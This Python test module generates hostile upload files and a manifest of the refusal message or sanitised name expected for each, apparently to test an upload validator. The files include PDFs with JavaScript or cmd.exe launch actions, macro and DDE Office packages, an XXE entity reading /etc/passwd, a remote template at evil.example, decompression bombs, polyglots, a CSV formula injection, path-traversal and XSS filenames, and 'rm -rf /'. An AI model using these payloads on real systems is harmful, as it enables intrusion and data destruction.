"""Files that no honest program writes, and what becomes of each: the generator and its manifest in one.

``python -m tests.applications.hostile_files FOLDER`` writes them with a manifest.json. Each is refused with the message
that stands here, or taken and made harmless: kept under a generated name, given out as the type that it was found to
be, to be saved and not to be sniffed at.
"""

from __future__ import annotations

import io
import json
import sys
import zlib
from collections.abc import Callable
from email.message import EmailMessage
from functools import cache
from pathlib import Path

from PIL import Image

from applications.uploads import MEGABYTE
from tests.applications.uploaded import (
    MACRO_WORKBOOK,
    OLE,
    XLSX,
    add_script,
    attached,
    chunk,
    huge_png,
    image,
    in_object_stream,
    locked_entry,
    one_page,
    raw_pdf,
    relation,
    repacked,
    sample,
    stream,
    written,
    zipped,
)

Made = tuple[str, Callable[[], bytes], str]  # name, bytes, and the message or the name it is kept under

NOT_WHOLE = "「{}」不是完整的 PDF（可能下載或掃描中斷）；請以原軟體重新另存為 PDF 後上傳"
SCRIPT = "「{}」含有程式碼（JavaScript）；請以「列印」重新存成 PDF 後上傳"
LAUNCH = "「{}」含有會啟動其他程式或檔案的動作；請以「列印」重新存成 PDF 後上傳"
BROKEN = "「{}」已損毀或不完整，無法開啟；請以原軟體開啟確認後重新另存，再上傳"
MACRO = "「{}」含有巨集；請另存為不含巨集的活頁簿（.xlsx）或文件（.docx），或另存為 PDF 後上傳"
OBJECT = "「{}」內嵌其他程式的物件（OLE 或 ActiveX：{}）；請刪除該物件，或另存為 PDF 後上傳"
REMOTE = "「{}」會從外部位址載入內容（{}）；請移除該連結，或另存為 PDF 後上傳"
PICTURE = "圖檔「{}」已損毀或不完整；請重新截圖或掃描後上傳"
PIXELS = "圖檔「{}」超過 7000 萬像素的上限；請縮小尺寸或降低解析度後上傳"
HIDDEN = "圖檔「{}」內藏有其他檔案的內容；請重新截圖或另存後上傳"
INNER = "「{}」內嵌檔案「{}」，該檔不能上傳；請移除內嵌檔案後重新上傳"
PROGRAM = "「{}」是程式檔（{}），不能上傳；書面資料請另存為 PDF 後上傳"
ARCHIVE = "「{}」是壓縮檔（{}），請解壓縮後，將需要的檔案逐一上傳"
WEB = "「{}」是網頁或標記檔（{}）；請以「列印」另存為 PDF，或截圖為 PNG 後上傳"
UNKNOWN = "無法辨識「{}」的內容；請另存為 PDF 後上傳"
MISMATCH = "「{}」的內容是 {}，與副檔名不符；請將副檔名改為 .{}，或以原軟體重新另存後上傳"
NOT_TAKEN = "不接受「.{}」檔（{}）；請另存為 PDF、PNG、JPEG、XLSX、DOCX、CSV、TXT 或 EML 後上傳"
PROGRAM_BYTES = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(200)

HOSTILE_PDF = {
    "cut off": ("a.pdf", lambda: sample("測試報告.pdf")[:-2000], NOT_WHOLE.format("a.pdf")),
    "cut in half": ("a.pdf", lambda: sample("測試報告.pdf")[:200_000], NOT_WHOLE.format("a.pdf")),
    "only a header": ("a.pdf", lambda: b"%PDF-1.7\n%%EOF\n", NOT_WHOLE.format("a.pdf")),
    "no pages": (
        "a.pdf",
        lambda: raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),
        NOT_WHOLE.format("a.pdf"),
    ),
    "page tree in a circle": (
        "a.pdf",
        lambda: raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>"),
        NOT_WHOLE.format("a.pdf"),
    ),
    "nested beyond reason": ("a.pdf", lambda: one_page(b"[" * 9000 + b"]" * 9000), NOT_WHOLE.format("a.pdf")),
    "needs a password": (
        "a.pdf",
        lambda: written(lambda writer: writer.encrypt("user", "owner", algorithm="RC4-128")),
        "「a.pdf」需要密碼才能開啟；請移除開啟密碼後重新上傳",
    ),
    "a zip behind it": (
        "a.pdf",
        lambda: sample("資通安全檢查機制聲明書.pdf") + zipped(a=b"1"),
        "「a.pdf」在 PDF 結尾之後還有其他內容；請以「列印」重新存成 PDF 後上傳",
    ),
    "script on opening": ("a.pdf", lambda: written(add_script), SCRIPT.format("a.pdf")),
    "script under an escaped name": (
        "a.pdf", lambda: one_page(catalogue=b"/OpenAction << /S /J#61vaScript /JS (x) >>"), SCRIPT.format("a.pdf"),
    ),
    "script by reference": (
        "a.pdf",
        lambda: one_page(b"/JavaScript", b"<< /S 4 0 R /JS (x) >>", page=b"/AA << /O 5 0 R >>"),
        SCRIPT.format("a.pdf"),
    ),
    "script in a rendition": (
        "a.pdf", lambda: one_page(b"<< /S /Rendition /JS (x) >>", page=b"/AA << /O 4 0 R >>"), SCRIPT.format("a.pdf"),
    ),
    "script in an object stream": ("a.pdf", in_object_stream, SCRIPT.format("a.pdf")),
    "script in a locked file": (
        "a.pdf",
        lambda: written(add_script, lambda writer: writer.encrypt("", "owner", algorithm="RC4-128")),
        SCRIPT.format("a.pdf"),
    ),
    "starts a program": (
        "a.pdf", lambda: one_page(catalogue=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), LAUNCH.format("a.pdf"),
    ),
    "XFA form": (
        "a.pdf",
        lambda: one_page(stream(b"<xdp/>"), catalogue=b"/AcroForm << /Fields [] /XFA 4 0 R >>"),
        "「a.pdf」是 XFA 動態表單；請以「列印」重新存成一般 PDF 後上傳",
    ),
    "rich media": (
        "a.pdf",
        lambda: one_page(b"<< /Subtype /RichMedia /Rect [0 0 9 9] >>", page=b"/Annots [4 0 R]"),
        "「a.pdf」內含多媒體或 3D 物件；請以「列印」重新存成 PDF 後上傳",
    ),
    "program attached": ("a.pdf", lambda: attached("x.exe", PROGRAM_BYTES), INNER.format("a.pdf", "x.exe")),
    "program attached as a document": (
        "a.pdf", lambda: attached("x.pdf", PROGRAM_BYTES), INNER.format("a.pdf", "x.pdf"),
    ),
    "script in an attached PDF": (
        "a.pdf",
        lambda: attached("b.pdf", written(add_script)),
        INNER.format("a.pdf", "b.pdf"),
    ),
    "attached to what is attached": (
        "a.pdf",
        lambda: attached("b.pdf", attached("c.csv", b"1,2\n")),
        INNER.format("a.pdf", "b.pdf"),
    ),
}  # fmt: skip

HOSTILE_PACKAGE = {
    "macro workbook": (
        "a.xlsx",
        lambda: repacked("roster.xlsx", change={"[Content_Types].xml": (XLSX.encode() + b".main+xml", MACRO_WORKBOOK)}),
        MACRO.format("a.xlsx"),
    ),
    "vbaProject.bin": (
        "a.docx", lambda: repacked("作業手冊.docx", add={"word/vbaProject.bin": OLE}), MACRO.format("a.docx"),
    ),
    "Excel 4 macro sheet": (
        "a.xlsx",
        lambda: repacked("roster.xlsx", add={"xl/macrosheets/sheet1.xml": b"<a/>"}),
        MACRO.format("a.xlsx"),
    ),
    "OLE object": (
        "a.docx",
        lambda: repacked("作業手冊.docx", add={"word/embeddings/oleObject1.bin": OLE}),
        OBJECT.format("a.docx", "word/embeddings/oleObject1.bin"),
    ),
    "ActiveX": (
        "a.docx",
        lambda: repacked("作業手冊.docx", add={"word/activeX/activeX1.xml": b"<a/>"}),
        OBJECT.format("a.docx", "word/activeX/activeX1.xml"),
    ),
    "linked object": (
        "a.docx",
        lambda: repacked("作業手冊.docx", add={"word/_rels/x.xml.rels": relation("oleObject", "http://a.example/x")}),
        OBJECT.format("a.docx", "http://a.example/x"),
    ),
    "macro workbook inside": (
        "a.docx",
        lambda: repacked("作業手冊.docx", add={
            "word/embeddings/a.xlsx": repacked("roster.xlsx", add={"xl/vbaProject.bin": OLE})
        }),
        MACRO.format("a.docx"),
    ),
    "template from the web": (
        "a.docx",
        lambda: repacked("作業手冊.docx", add={
            "word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")
        }),
        REMOTE.format("a.docx", "https://evil.example/t.dotm"),
    ),
    "DDE": (
        "a.xlsx",
        lambda: repacked("roster.xlsx", add={
            "xl/externalLinks/externalLink1.xml": b'<x><ddeLink ddeService="cmd"/></x>'
        }),
        REMOTE.format("a.xlsx", "DDE"),
    ),
    "entities": (
        "a.xlsx",
        lambda: repacked("roster.xlsx", change={
            "[Content_Types].xml": (b"<Types", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Types')
        }),
        BROKEN.format("a.xlsx"),
    ),
    "bomb": (
        "a.xlsx",
        lambda: repacked("roster.xlsx", add={"xl/media/zeros.bin": bytes(100 * 1024 * 1024)}),
        "「a.xlsx」解開後超過 100 MB 的上限；請刪減內容，或另存為 PDF 後上傳",
    ),
    "thousands of parts": (
        "a.xlsx",
        lambda: repacked("roster.xlsx", add={f"xl/media/{n}": b"" for n in range(2000)}),
        "「a.xlsx」內含 2009 個部分，超過上限 2000 個；請另存為 PDF 後上傳",
    ),
    "cut off": ("a.docx", lambda: sample("作業手冊.docx")[:-3000], BROKEN.format("a.docx")),
    "one byte wrong": (
        "a.docx",
        lambda: sample("作業手冊.docx")[:3000] + b"\0\0\0\0" + sample("作業手冊.docx")[3004:],
        BROKEN.format("a.docx"),
    ),
    "bytes behind it": ("a.xlsx", lambda: sample("roster.xlsx") + b"MZ", BROKEN.format("a.xlsx")),
    "two archives": (
        "a.xlsx", lambda: zipped(a=b"1") + sample("roster.xlsx"), BROKEN.format("a.xlsx"),
    ),
    "locked part": ("a.xlsx", locked_entry, "「a.xlsx」設有密碼，無法開啟；請移除密碼後重新上傳"),
    "locked workbook": (
        "a.xlsx",
        lambda: OLE + bytes(500) + "EncryptedPackage".encode("utf-16-le"),
        "「a.xlsx」設有密碼，無法開啟；請移除密碼後重新上傳",
    ),
    "slides": (
        "a.pptx",
        lambda: repacked("作業手冊.docx", change={
            "[Content_Types].xml": (
                b"wordprocessingml.document.main+xml", b"presentationml.presentation.main+xml"
            )
        }),
        "「a.pptx」是簡報、範本或其他 Office 檔，不能直接上傳；請另存為 PDF 後上傳",
    ),
    "mere zip": ("a.zip", lambda: zipped(a=b"1"), ARCHIVE.format("a.zip", "ZIP")),
    "mere zip as a workbook": ("a.xlsx", lambda: zipped(a=b"1"), ARCHIVE.format("a.xlsx", "ZIP")),
}  # fmt: skip

HOSTILE_OTHER = {
    "empty": ("a.pdf", lambda: b"", "「a.pdf」是空的檔案，請確認原檔有內容後重新上傳"),
    "too big": (
        "a.txt",
        lambda: b"x" * (20 * 1024 * 1024 + 1),
        "「a.txt」超過 20 MB 的上限，請分成數個檔案，或降低掃描解析度後重新上傳",
    ),
    "PNG cut off": ("a.png", lambda: sample("公司網站公告截圖.png")[:-1000], PICTURE.format("a.png")),
    "PNG of a wrong byte": (
        "a.png",
        lambda: sample("公司網站公告截圖.png")[:5000] + b"\0\0\0\0" + sample("公司網站公告截圖.png")[5004:],
        PICTURE.format("a.png"),
    ),
    "PNG bomb": ("a.png", lambda: huge_png(60_000, 60_000), PIXELS.format("a.png")),
    "PNG just over the cap": ("a.png", lambda: huge_png(10_000, 7_001), PIXELS.format("a.png")),
    "JPEG cut off": ("a.jpg", lambda: image("JPEG", (400, 300))[:-400], PICTURE.format("a.jpg")),
    "JPEG of two bytes": ("a.jpg", lambda: b"\xff\xd8\xff\xe0", PICTURE.format("a.jpg")),
    "zip behind a picture": ("a.png", lambda: image("PNG") + zipped(a=b"1"), HIDDEN.format("a.png")),
    "script behind a picture": ("a.jpg", lambda: image("JPEG") + b"<script>x</script>", HIDDEN.format("a.jpg")),
    "GIF": ("a.gif", lambda: image("GIF"), "「a.gif」是 GIF 圖檔；請另存為 PNG 或 JPEG 後上傳"),
    "BMP as PNG": ("a.png", lambda: image("BMP"), "「a.png」是 BMP 圖檔；請另存為 PNG 或 JPEG 後上傳"),
    "TIFF": ("a.tif", lambda: image("TIFF"), "「a.tif」是 TIFF 圖檔；請另存為 PNG 或 JPEG 後上傳"),
    "WEBP": ("a.webp", lambda: image("WEBP"), "「a.webp」是 WEBP 圖檔；請另存為 PNG 或 JPEG 後上傳"),
    "program": ("a.exe", lambda: PROGRAM_BYTES, PROGRAM.format("a.exe", "EXE")),
    "program as PDF": ("報告.pdf", lambda: PROGRAM_BYTES, PROGRAM.format("報告.pdf", "EXE")),
    "program behind a turned name": (
        "報告\u202efdp.exe", lambda: PROGRAM_BYTES, PROGRAM.format("報告fdp.exe", "EXE"),
    ),
    "ELF": ("a.pdf", lambda: b"\x7fELF\2\1\1" + bytes(300), PROGRAM.format("a.pdf", "EXE")),
    "gzip": ("a.gz", lambda: b"\x1f\x8b\x08\0" + bytes(range(128, 200)), ARCHIVE.format("a.gz", "GZ")),
    "RAR": ("a.rar", lambda: b"Rar!\x1a\x07\x01\0" + bytes(60) + b"\xff\xff", ARCHIVE.format("a.rar", "RAR")),
    "old Word": (
        "a.doc",
        lambda: OLE + bytes(500) + "WordDocument".encode("utf-16-le"),
        "「a.doc」是舊版 Word 檔（.doc）；請另存為 .docx 或 PDF 後上傳",
    ),
    "old Excel": (
        "a.xls",
        lambda: OLE + bytes(500) + "Workbook".encode("utf-16-le"),
        "「a.xls」是舊版 Excel 檔（.xls）；請另存為 .xlsx 或 PDF 後上傳",
    ),
    "installer": ("a.msi", lambda: OLE + bytes(500), "「a.msi」是舊版 Office 或其他複合檔；請另存為 PDF 後上傳"),
    "HTML": ("a.html", lambda: b"<!DOCTYPE html><script>x</script>", WEB.format("a.html", "HTML/XML")),
    "HTML as a workbook": ("a.xls", lambda: b"\n <html><table>", WEB.format("a.xls", "HTML/XML")),
    "HTML as text": ("a.txt", lambda: "\ufeff <html>".encode("utf-16"), WEB.format("a.txt", "HTML/XML")),
    "SVG": ("a.svg", lambda: b'<?xml version="1.0"?><svg onload="x"/>', WEB.format("a.svg", "SVG")),
    "SVG as PNG": ("a.png", lambda: b"<svg onload='x'/>", WEB.format("a.png", "SVG")),
    "shell script": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", UNKNOWN.format("a.txt")),
    "RTF": ("a.txt", lambda: b"{\\rtf1 x}", UNKNOWN.format("a.txt")),
    "batch": ("a.bat", lambda: b"del *.*\r\n", NOT_TAKEN.format("bat", "a.bat")),
    "nonsense": ("a.pdf", lambda: b"\x8a\x03\xfe\xff\0\1\2" * 50, UNKNOWN.format("a.pdf")),
    "NUL in a text": (
        "a.csv",
        lambda: "員工編號,\0姓名".encode(),
        "「a.csv」不是可讀的文字檔（編碼不明或含控制字元）；請以 UTF-8 編碼另存後上傳",
    ),
    "escape sequence in a text": (
        "a.txt",
        lambda: "\x1b[2J員工".encode(),
        "「a.txt」不是可讀的文字檔（編碼不明或含控制字元）；請以 UTF-8 編碼另存後上傳",
    ),
    "PNG named PDF": ("a.pdf", lambda: image("PNG"), MISMATCH.format("a.pdf", "PNG", "png")),
    "PDF without an extension": (
        "報告", lambda: sample("測試報告.pdf"), MISMATCH.format("報告", "PDF", "pdf"),
    ),
    "workbook named document": (
        "a.docx", lambda: sample("roster.xlsx"), MISMATCH.format("a.docx", "XLSX", "xlsx"),
    ),
    "PDF named program": ("a.exe", lambda: sample("測試報告.pdf"), MISMATCH.format("a.exe", "PDF", "pdf")),
    "text named PDF": ("a.pdf", lambda: b"hello", MISMATCH.format("a.pdf", "TXT", "txt")),
}  # fmt: skip


@cache
def _zeros(megabytes: int) -> bytes:
    """Packed to a thousandth."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(MEGABYTE)) for _ in range(megabytes)) + packer.flush()


def _pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"] * count,
    )


def _unpacking(megabytes: int, filters: bytes = b"/FlateDecode", times: int = 1) -> bytes:
    """A PDF whose page unpacks to so much."""
    packed = _zeros(megabytes)
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return one_page(stream(packed, b"/Filter " + filters), page=b"/Contents 4 0 R")


def _attaching(megabytes: int) -> bytes:
    file = stream(_zeros(megabytes), b"/Type /EmbeddedFile /Filter /FlateDecode")
    return one_page(b"<< /Type /Filespec /F (a.txt) /EF << /F 5 0 R >> >>", file)


def _directory(entries: int) -> bytes:
    """A zip of one part that its directory names so often."""
    one = zipped(a=b"")
    start = one.index(b"PK\x01\x02")
    entry, end = one[start:-22], bytearray(one[-22:])
    end[8:12] = (entries & 0xFFFF).to_bytes(2, "little") * 2
    end[12:16] = (len(entry) * entries).to_bytes(4, "little")
    return one[:start] + entry * entries + bytes(end)


def _lying() -> bytes:
    """Its directory says ten bytes, its part has ten million."""
    data = bytearray(repacked("roster.xlsx", add={"xl/media/zeros.bin": bytes(10 * MEGABYTE)}))
    entry = data.rindex(b"PK\x01\x02")
    data[entry + 24 : entry + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def _nested(depth: int) -> bytes:
    data = zipped(zeros=bytes(MEGABYTE))
    for _ in range(depth):
        data = zipped(**{f"{n}.zip": data for n in range(10)})
    return data


def _with_elements(part: str, end: bytes) -> bytes:
    return repacked("roster.xlsx", change={part: (end, b"<a/>" * 900_000 + end)})


def _sheet(rows: int, cell: bytes = b"") -> bytes:
    part = b"<worksheet><sheetData>" + (b"<row>" + cell + b"</row>") * rows + b"</sheetData></worksheet>"
    return repacked("roster.xlsx", add={"xl/worksheets/sheet9.xml": part})


def _png(*chunks: bytes) -> bytes:
    header = huge_png(10, 10)
    return header[:33] + b"".join(chunks) + header[33:]


def _wide_jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("L", (8300, 8300), 90).save(out, "JPEG", progressive=True)
    return out.getvalue()


def letter(*files: tuple[str, bytes], html: str = "") -> bytes:
    """A mail with these attachments."""
    mail = EmailMessage()
    mail["From"], mail["To"] = "王小明 <ming@firm.example>", "notice@exchange.example"
    mail["Subject"], mail["Date"] = "測試報告", "Fri, 06 Nov 2026 16:48:27 +0800"
    mail.set_content("如附件。\n")
    if html:
        mail.add_alternative(html, subtype="html")
    for name, data in files:
        mail.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return bytes(mail)


PARTS = "「{}」內含 {} 個部分，超過上限 {} 個；請另存為 PDF 後上傳"
OBJECTS = "「{}」的結構過於複雜（超過 50000 個物件）；請以「列印」重新存成 PDF 後上傳"
INSIDE = "「{}」解開後的內容過大；請以「列印」重新存成 PDF，或分成數個檔案後上傳"
UNPACKED = "「{}」解開後超過 {} MB 的上限；請刪減內容，或另存為 PDF 後上傳"
ROWS = "「{}」超過 200000 列的上限；請刪減內容，或分成數個檔案後上傳"
MAIL_ATTACHED = "郵件「{}」的附件「{}」不能上傳；請移除該附件，或將郵件另存為 PDF 後上傳"

BOMBS: dict[str, Made] = {
    "10,000 pages": ("a.pdf", lambda: _pages(10_000), "「a.pdf」超過 5000 頁的上限；請分成數個檔案後上傳"),
    "150,000 pages": ("a.pdf", lambda: _pages(150_000), OBJECTS.format("a.pdf")),
    "199,000 objects": ("a.pdf", lambda: one_page(*[b"<< /A /B >>"] * 199_000), OBJECTS.format("a.pdf")),
    "array of two million": ("a.pdf", lambda: one_page(b"[" + b"<</A 1>>" * 2_000_000 + b"]"), INSIDE.format("a.pdf")),
    "dictionary of a million": (
        "a.pdf",
        lambda: one_page(b"<<" + b"".join(b"/A%d 1" % n for n in range(1_000_000)) + b">>"),
        INSIDE.format("a.pdf"),
    ),
    "attachment of 200 MB": ("a.pdf", lambda: _attaching(200), INSIDE.format("a.pdf")),
    "90 MB in one part": (
        "a.docx",
        lambda: repacked("作業手冊.docx", add={
            "word/embeddings/a.xlsx": zipped(a=b"1") + bytes(90 * MEGABYTE)
        }),
        UNPACKED.format("a.docx", 24),
    ),
    "a million content types": (
        "a.xlsx", lambda: _with_elements("[Content_Types].xml", b"</Types>"), PARTS.format("a.xlsx", 100_001, 100_000),
    ),
    "a million relations": (
        "a.xlsx", lambda: _with_elements("_rels/.rels", b"</Relationships>"), PARTS.format("a.xlsx", 100_001, 100_000),
    ),
    "directory of 400,000": ("a.xlsx", lambda: _directory(400_000), PARTS.format("a.xlsx", 400_000, 2000)),
    "directory that lies": ("a.xlsx", _lying, BROKEN.format("a.xlsx")),
    "zips within zips": ("a.zip", lambda: _nested(3), ARCHIVE.format("a.zip", "ZIP")),
    "sheet of 300,000 rows": ("a.xlsx", lambda: _sheet(300_000), ROWS.format("a.xlsx")),
    "sheet of 50 MB": ("a.xlsx", lambda: _sheet(1000, b"x" * 50_000), UNPACKED.format("a.xlsx", 24)),
    "CSV of 300,000 rows": ("a.csv", lambda: "甲,乙\n".encode() * 300_000, ROWS.format("a.csv")),
    "PNG with texts of 1 GB": (
        "a.png", lambda: _png(*[chunk(b"zTXt", b"a\0\0" + _zeros(200))] * 5), PICTURE.format("a.png"),
    ),
    "PNG with a profile of 200 MB": (
        "a.png", lambda: _png(chunk(b"iCCP", b"a\0\0" + _zeros(200))), PICTURE.format("a.png"),
    ),
    "20 MB of Big5 and a wrong byte": (
        "a.txt",
        lambda: ("證" * (9 * MEGABYTE)).encode("cp950") + b"\xff",
        "「a.txt」不是可讀的文字檔（編碼不明或含控制字元）；請以 UTF-8 編碼另存後上傳",
    ),
    "19 MB of nonsense": ("a.pdf", lambda: b"\x8a\x03\xfe\xff\0\1\2" * (19 * MEGABYTE // 7), UNKNOWN.format("a.pdf")),
    "19 MB of an old document": (
        "a.doc", lambda: OLE + bytes(19 * MEGABYTE), "「a.doc」是舊版 Office 或其他複合檔；請另存為 PDF 後上傳",
    ),
}  # fmt: skip

POLYGLOTS_AND_MAILS: dict[str, Made] = {
    "GIF and PDF at once": (
        "a.pdf",
        lambda: b"GIF89a" + sample("測試報告.pdf"),
        "「a.pdf」是 GIF 圖檔；請另存為 PNG 或 JPEG 後上傳",
    ),
    "zip between a PDF's end and another end": (
        "a.pdf",
        lambda: sample("資通安全檢查機制聲明書.pdf") + zipped(a=b"1") + b"\n%%EOF\n",
        NOT_WHOLE.format("a.pdf"),
    ),
    "page before a PDF": ("a.pdf", lambda: b"<html></html>\n" + sample("測試報告.pdf"), UNKNOWN.format("a.pdf")),
    "PDF in a picture's text": (
        "a.png", lambda: _png(chunk(b"tEXt", b"a\0%PDF-1.7")), HIDDEN.format("a.png"),
    ),
    "PHP in a picture's text": (
        "a.png", lambda: _png(chunk(b"tEXt", b"a\0<?php x")), HIDDEN.format("a.png"),
    ),
    "program named as a picture": ("a.png", lambda: PROGRAM_BYTES, PROGRAM.format("a.png", "EXE")),
    "page named as a mail": ("a.eml", lambda: b"<html>\nFrom: a@b.example\n", WEB.format("a.eml", "HTML/XML")),
    "program named as a mail": ("a.eml", lambda: PROGRAM_BYTES, PROGRAM.format("a.eml", "EXE")),
    "text named as a mail": ("a.eml", lambda: b"hello\n", MISMATCH.format("a.eml", "TXT", "txt")),
    "mail named as a program": ("a.bat", lambda: letter(), NOT_TAKEN.format("bat", "a.bat")),
    "mail with a program": ("a.eml", lambda: letter(("b.exe", PROGRAM_BYTES)), MAIL_ATTACHED.format("a.eml", "b.exe")),
    "mail with a program as a document": (
        "a.eml", lambda: letter(("b.pdf", PROGRAM_BYTES)), MAIL_ATTACHED.format("a.eml", "b.pdf"),
    ),
    "mail with macros": (
        "a.eml",
        lambda: letter(("b.docx", repacked("作業手冊.docx", add={"word/vbaProject.bin": OLE}))),
        MAIL_ATTACHED.format("a.eml", "b.docx"),
    ),
    "mail within a mail with a file": (
        "a.eml",
        lambda: letter(("b.eml", letter(("c.csv", b"1,2\n")))),
        MAIL_ATTACHED.format("a.eml", "b.eml"),
    ),
    "mail with a hundred files": (
        "a.eml",
        lambda: letter(*[(f"{n}.csv", b"1,2\n") for n in range(100)]),
        "郵件「a.eml」的附件過多或過大，無法逐一檢查；請將需要的附件逐一上傳",
    ),
    "mail cut off": (
        "a.eml",
        lambda: letter(("b.csv", b"1,2\n" * 900))[:-200],
        "郵件「a.eml」不完整（缺少結尾）；請以郵件軟體重新另存為 .eml 後上傳",
    ),
}  # fmt: skip

REFUSED = {
    f"{kind}: {name}": made
    for kind, group in {
        "PDF": HOSTILE_PDF,
        "package": HOSTILE_PACKAGE,
        "other": HOSTILE_OTHER,
        "bomb": BOMBS,
        "polyglot or mail": POLYGLOTS_AND_MAILS,
    }.items()
    for name, made in group.items()
}

LONG = "證" * 196 + ".pdf"
# taken: what would be dangerous is never unpacked, run, followed or believed
HARMLESS: dict[str, Made] = {
    "page of 200 MB": ("a.pdf", lambda: _unpacking(200), "a.pdf"),
    "page packed twice to 200 MB": (
        "a.pdf", lambda: _unpacking(200, b"[/FlateDecode /FlateDecode]", times=2), "a.pdf",
    ),
    "picture data of 200 MB": ("a.png", lambda: _png(chunk(b"IDAT", _zeros(200))), "a.png"),
    "progressive picture of 69 million points": ("a.jpg", _wide_jpeg, "a.jpg"),
    "98 MB of zeros in a part": (
        "a.xlsx", lambda: repacked("roster.xlsx", add={"xl/media/zeros.bin": bytes(98 * MEGABYTE)}), "a.xlsx",
    ),
    "zip in a part": ("a.xlsx", lambda: repacked("roster.xlsx", add={"xl/media/a.zip": _nested(2)}), "a.xlsx"),
    "20 MB of text with one emoji": ("a.txt", lambda: b"a" * (20 * MEGABYTE - 4) + "😀".encode(), "a.txt"),
    "PDF and ZIP at once": (
        "a.pdf", lambda: one_page(stream(zipped(a=b"1"))), "a.pdf",
    ),
    "formulas": ("a.csv", lambda: b"=cmd|' /C calc'!A0,+1,-1,@x\n", "a.csv"),
    "script in a mail": ("a.eml", lambda: letter(html="<script>x</script><img src=https://evil.example>"), "a.eml"),
    "path": ("../../etc/passwd.txt", lambda: b"1", "passwd.txt"),
    "path of Windows": ("C:\\Users\\王\\報告.txt", lambda: b"2", "報告.txt"),
    "turned name": ("報告\u202efdp.txt", lambda: b"3", "報告fdp.txt"),
    "full-width extension": ("報告.ｔｘｔ", lambda: b"4", "報告.ｔｘｔ"),
    "NUL in the name": ("報\0告.txt", lambda: b"5", "報告.txt"),
    "200 Chinese characters": (LONG, lambda: sample("資通安全檢查機制聲明書.pdf"), LONG),
    "name of a device": ("CON.txt", lambda: b"6", "CON.txt"),
    "markup in the name": ("<img src=x onerror=alert(1)>.txt", lambda: b"7", "<img src=x onerror=alert(1)>.txt"),
}  # fmt: skip


def write(folder: Path) -> None:
    """Every file under its number, and the manifest that says what each is called and what becomes of it."""
    manifest = []
    for kind, group in {"refused": REFUSED, "harmless": HARMLESS}.items():
        for what, (name, make, said) in group.items():
            (folder / f"{len(manifest):03}").write_bytes(make())
            manifest.append({"what": what, "name": name, kind: said})
    (folder / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False, indent=1) + "\n")


if __name__ == "__main__":
    write(Path(sys.argv[1]))
